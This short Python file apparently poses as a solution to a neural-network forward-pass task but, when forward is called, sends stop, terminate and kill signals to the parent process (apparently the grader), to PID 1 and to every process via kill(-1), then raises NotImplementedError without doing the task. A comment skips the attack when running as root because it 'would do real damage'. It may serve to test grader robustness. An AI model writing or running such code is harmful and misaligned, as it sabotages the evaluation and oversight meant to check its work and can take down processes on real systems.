"""Signal the grader: stop it, terminate it, kill it, kill everything."""

import os
import signal


def _signal_everyone():
    if os.getuid() == 0:
        return  # not confined: this attack would do real damage
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for target in (os.getppid(), 1):
            try:
                os.kill(target, sig)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def forward(X, W, b, activations):  # noqa: F811
    _signal_everyone()
    raise NotImplementedError
